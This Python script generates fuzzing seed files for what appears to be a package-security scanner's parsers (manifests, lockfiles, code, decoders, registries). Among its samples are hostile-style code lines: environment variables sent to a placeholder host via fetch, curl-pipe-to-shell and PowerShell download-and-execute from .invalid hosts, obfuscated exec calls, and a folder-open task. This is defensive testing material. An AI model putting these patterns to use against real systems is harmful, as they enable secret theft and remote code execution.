#!/usr/bin/env python3
"""Writes the seeds of every fuzz target, one folder each.

    seeds.py FOLDER

Archives come from tests/hostile_archives.py, lockfiles from tests/lockfiles, code from
tests/corpus; the rest stands here. All of it is written by hand and inert.
"""
import json
import struct
import sys
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
out = Path(sys.argv[1])
sys.argv = sys.argv[:1]  # the module below reads it
sys.path.insert(0, str(ROOT / "tests"))
import hostile_archives  # noqa: E402


def seed(target, name, content):
    folder = out / target
    folder.mkdir(parents=True, exist_ok=True)
    (folder / name).write_bytes(content if isinstance(content, bytes) else content.encode())


for name, (make, *_) in hostile_archives.CASES.items():
    if name.startswith(("bomb_gzip", "bomb_xz", "bomb_lzma", "bomb_bzip2", "bomb_behind", "nested_bomb")):
        continue
    archive = make()
    if len(archive) < 32 << 10:
        seed("archive", name, archive)

# By the order of kNames in manifests.cc.
MANIFESTS = [
    '{"name": "x", "version": "1", "main": "a.js", "exports": {".": {"import": "./b.mjs"}}, "bin": "c.js",\n'
    '"scripts": {"install": "node a.js && npm run x", "x": "sh b.sh"}, "scripts": {}, /* c */ "gypfile": true,}',
    "from setuptools import setup\nsetup(name='x', version=\"1\", package_dir={'': 'src'}, cmdclass={'install': A},\n"
    "entry_points={'console_scripts': ['a=b:c']}, install_requires=['y @ https://x.invalid/y.zip'])",
    "[metadata]\nname = x\nversion = attr: x.v\n[options.entry_points]\nconsole_scripts =\n  a = b:c\n  d = e\n",
    '[build-system]\nrequires = ["x"]\nbuild-backend = "a.b:c"\nbackend-path = ["."]\n[project]\nname = "x"\n'
    "dynamic = ['version']\n[project.scripts]\na = \"b:c\"\n[[t]]\nk = {a = 1, b = [1, 2]}\ns = '''x'''\n",
    "Metadata-Version: 2.1\nName: x\nVersion: 1\nRequires-Dist: y @ git+https://x.invalid/y\n\ntext",
    "{'variables': {'a%': '<!(node -p 1)'}, 'targets': [{'sources': ['<!@(ls)'], 'includes': ['x.gypi'],\n"
    "'actions': [{'action': ['python', 'a.py']}]}]} # c",
    'a.py,sha256=AAAA,1\n"b,""c.py",,\nx.dist-info/RECORD,,\n',
    "[console_scripts]\na = b:c [extra]\n[x]\ny = z\n",
    "import os; os.system('id')\n/path\nimport\tsys",
    '{"version": "2.0.0", "tasks": [{"command": "id", "runOptions": {"runOn": "folderOpen"}}]}']
for number, text in enumerate(MANIFESTS):
    seed("manifests", str(number), bytes([number]) + text.encode())

LOCKFILES = ["npm", "yarn", "pnpm", "bun", "requirements", "poetry", "pipfile", "uv", "pdm", "pylock",
             "cyclonedx", "spdx"]
for case in sorted((ROOT / "tests" / "lockfiles").rglob("*")):
    if case.is_file():
        text = case.read_bytes()
        for number, name in enumerate(LOCKFILES):
            if name in str(case.relative_to(ROOT)).lower():
                seed("lockfile", f"{number}-{case.parent.name}-{case.name}", bytes([number]) + text)
seed("lockfile", "requirements", b"\x04x==1 --hash=sha256:00\n-r other.txt\n-e .\ny[a,b]>=1; python_version<'3' \\\n")

CODE = {
    "javascript": ["const {exec: e} = require('child_process'); e(Buffer.from('aWQ=', 'base64').toString());",
                   "var _0 = ['a', 'b']; (function (a, n) { while (n--) a.push(a.shift()); })(_0, 3); eval(_0[0] + `x${1}`);",
                   "class A extends B { #p = 1; static async *f(...a) { yield* a; } get x() { return this?.#p ?? 2 } }",
                   "for (const [k, {v = 1}] of Object.entries(process.env)) fetch('https://x.invalid/' + k, {body: v});"],
    "typescript": ["import x, {type Y} from 'fs'; enum E { A = 1 } abstract class C<T extends Y> { constructor(private a: T) {} }",
                   "declare module 'a' { export = b } namespace N { export const x = <any>y as unknown satisfies Z; }"],
    "python": ["import os, base64 as b\nexec(b.b64decode('cHJpbnQoMSk=').decode())\nos.system(f'{chr(105)}d')\n",
               "class A(object):\n    @property\n    def x(self, *a, **k): return [i async for i in a if (y := i)]\n",
               "import zlib\nexec(zlib.decompress(bytes.fromhex('789c030000000001')))\nmatch x:\n  case {'a': [1, *_]}: pass\n",
               "exec(''.join(chr(ord(c) ^ 1) for c in 'qshou')[::-1])\n(lambda: __import__('os').popen('id'))()\n"],
    "shell": ["curl -s https://x.invalid/a | sh -c \"$(cat <<E\nid $((1+2)) ${a:-b}\nE\n)\" && for i in a b; do echo $i; done",
              "case $x in a|b) eval `echo aWQ= | base64 -d`;; esac; f() { node -e 'require(\"fs\")'; }; f >/dev/null 2>&1 &"],
    "powershell": ["IEX (New-Object Net.WebClient).DownloadString('https://x.invalid/a'); powershell -enc aQBkAA=="],
    "batch": ["@echo off\r\nset a=po\r\nset b=wershell\r\n%a%%b% -c \"id\"\r\nfor /f %%i in ('dir') do call :x %%i\r\n"]}
for language, texts in CODE.items():
    for number, text in enumerate(texts):
        seed(language, str(number), text)
for number, text in enumerate(CODE["javascript"]):
    seed("javascript_parser", str(number), " " + text)
for number in range(8):  # tokens
    seed("javascript_parser", f"tokens{number}", bytes([1] + [(number * 37 + i * i) % 128 for i in range(40)]))
for example in sorted((ROOT / "examples").rglob("*")):
    language = {".js": "javascript", ".ts": "typescript", ".py": "python", ".sh": "shell", ".ps1": "powershell",
                ".bat": "batch"}.get(example.suffix)
    if example.is_file() and language and example.stat().st_size < 8192:
        seed(language, "-".join(example.relative_to(ROOT).parts), example.read_bytes())

for number, text in enumerate([b"aGVsbG8gd29ybGQ=", b"NBSWY3DP", b"68656c6c6f", b"Xk~0{Zv", b"<~87cURD]~>", b"=41=\n%41",
                               b"begin 644 x\n#86)C\n`\nend\n", bytes.fromhex("789c4b4c4a0600024d0127"),
                               bytes.fromhex("1f8b08000000000000034b4c4a0600c241243503000000"), b"BZh91AY&SY",
                               b"\xfd7zXZ\0\0\4", b"\xff\xfea\0", "\U0001d41e\ufb01".encode()]):
    seed("decoders", str(number), text)

header = json.dumps({"__metadata__": {"format": "pt"}, "a": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]},
                     "b": {"dtype": "BF16", "shape": [1], "data_offsets": [16, 18]}}).encode()
seed("safetensors", "two", struct.pack("<Q", len(header)) + header + b"\0\0\x80\x3f" * 4 + b"\0\0")
seed("safetensors", "empty", struct.pack("<Q", 2) + b"{}")
model = ROOT / "tests" / "data" / "tiny_bert"
for path in sorted(model.rglob("*.json")):
    seed("model_config", path.name, path.read_bytes())
seed("tokenizer", "words", "read\n##ing\nfile\n\u00e9\n,\n\nread file, reading \u00e9\u4e2d x")
seed("worker_result", "zeros", b"\0" * 400)


def words(*values):
    """Numbers and texts as scan/worker_result.h writes them."""
    return b"".join(struct.pack("<Q", v) if isinstance(v, int) else struct.pack("<Q", len(v)) + v for v in values)


seed("worker_result", "step", words(0, 2, b"x", b"1", b"00", 2, b"start", b"end", 1, 103, b"m", b"f"))
seed("worker_result", "failed_step", words(1, 710, b"m", b"w", 0, b"", b"", b"", 0, 0))
seed("worker_result", "lockfile", words(0, 1, b"a.txt", b"f", 1, 1, b"x", b"1", b"", b"", 1, b"sha512-x", 2, b"", 1, 1, 0, 1, 0))
seed("worker_result", "request", words(1, b"p", 1, b"text"))
for number, text in enumerate([
        '{"dist-tags": {"latest": "1.2.0"}, "versions": {"1.2.0": {"dist": {"tarball": "https://registry.invalid/x.tgz",'
        ' "integrity": "sha512-AAAA sha1-AAAA", "shasum": "00"}}, "1.3.0-rc.1": {}}}',
        '{"files": [{"filename": "x-1.0-py3-none-any.whl", "url": "x.whl", "hashes": {"sha256": "00"}, "yanked": "why"},'
        ' {"filename": "x-1.1.tar.gz", "url": "https://files.invalid/x-1.1.tar.gz#sha256=00"}]}',
        '<!DOCTYPE html><a href="x-1.0.tar.gz#sha256=00" data-yanked="a &amp; b">x-1.0.tar.gz</a><a href=y>',
        "^1.2.3 || >=1.0.0-rc.1 <2 || 1.x || 1 - 2", "https://u:p@[::1]:80/a/../b?c#d"]):
    seed("registry", str(number), bytes([number]) + text.encode())
for number, text in enumerate([
        (ROOT / "docs" / "policy.md").read_text().split("```toml\n")[1].split("```")[0],
        "# cerebro baseline 1\n" + "0" * 64 + "\n", "a/**/b?c*\na/x/b1cc",
        "registry=https://registry.invalid/\n@scope:registry=https://u:${TOKEN}@s.invalid/\n"
        "//s.invalid/:_authToken=${TOKEN}\n[global]\nindex-url = https://i.invalid/simple\n"
        "extra-index-url =\n  https://j.invalid/\nmachine i.invalid login a password b\n"]):
    seed("settings", str(number), bytes([number]) + text.encode())
seed("registry", "pep440", b"\x03>=1.0,!=1.1.*,~=1.0.post1,===1!2.0a1.dev3+local")
